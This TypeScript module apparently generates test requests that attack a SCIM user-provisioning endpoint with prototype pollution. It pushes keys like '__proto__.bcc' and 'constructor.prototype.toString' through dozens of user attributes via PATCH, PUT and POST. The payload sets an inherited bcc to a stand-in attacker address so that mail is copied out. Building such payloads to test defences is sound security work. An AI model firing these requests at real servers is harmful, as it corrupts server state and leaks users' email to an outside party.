import { enterprise, entraUser } from './scim.ts'

/* A token's attempts to change what all objects of the server inherit. */

const bcc = 'attacker@outside.example'

/** Keys that lead to what all objects, texts or functions inherit. */
const keys: readonly string[] = [
  '__proto__.bcc',
  '__proto__.toString',
  'constructor.prototype.bcc',
  'constructor.prototype.toString',
  'toString.__proto__.bcc',
  'toString.call',
]

/** The attributes that lead in. */
export const ways = [
  ...['displayName', 'externalId', 'active', 'userName', 'preferredLanguage', 'name.formatted'],
  ...['name', 'emails', 'emails[type eq "work"]', 'emails[type eq "work"].value', 'phoneNumbers'],
  ...['phoneNumbers[type eq "work"].value', 'emails.value', `${enterprise}:department`, enterprise],
]

interface ScimRequest {
  readonly method: 'POST' | 'PUT' | 'PATCH'
  readonly path: string
  readonly body: object
}

/** All requests with which one attribute of a user may lead in. */
export function attacksAt(way: string, id: string, chosen = keys): ScimRequest[] {
  return chosen.flatMap((key) =>
    [inOneKey(key), nested(key)].flatMap((value): ScimRequest[] => {
      const patches = [
        [replace(way, { a: 1 }), replace(way, value)],
        [replace(way, value)],
        [{ op: 'add', path: way, value: [value] }],
        [{ op: 'remove', path: way, value }],
        [{ op: 'replace', value: { [way]: value } }],
        [{ op: 'replace', value }],
        [replace(`${way}.${key}`, bcc)],
        [replace(key, bcc)],
      ]
      const path = `/Users/${id}`
      const body = entraUser({ [way]: value })
      return [
        ...patches.map((Operations) => ({ method: 'PATCH', path, body: { Operations } }) as const),
        { method: 'PUT', path, body },
        { method: 'POST', path: '/Users', body },
      ]
    }),
  )
}

function replace(path: string, value: unknown) {
  return { op: 'replace', path, value }
}

/** As it is parsed: a literal would set the prototype. */
function inOneKey(key: string): unknown {
  return JSON.parse(`{${JSON.stringify(key)}: ${JSON.stringify(bcc)}}`)
}

function nested(key: string): unknown {
  const inner = (value: string, part: string) => `{${JSON.stringify(part)}: ${value}}`
  return JSON.parse(key.split('.').reduceRight(inner, JSON.stringify(bcc)))
}
